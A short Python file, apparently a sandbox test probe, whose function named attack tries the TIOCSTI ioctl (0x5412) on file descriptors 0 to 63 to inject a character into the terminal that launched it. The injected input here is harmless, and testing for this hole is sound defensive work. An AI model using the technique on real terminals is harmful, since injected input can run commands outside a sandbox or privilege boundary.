# ruff: noqa
# tries: types into the terminal that it was started from

import fcntl


def attack():
    for fd in range(64):
        try:
            fcntl.ioctl(fd, 0x5412, b"x")
            return True
        except OSError:
            pass
    return False
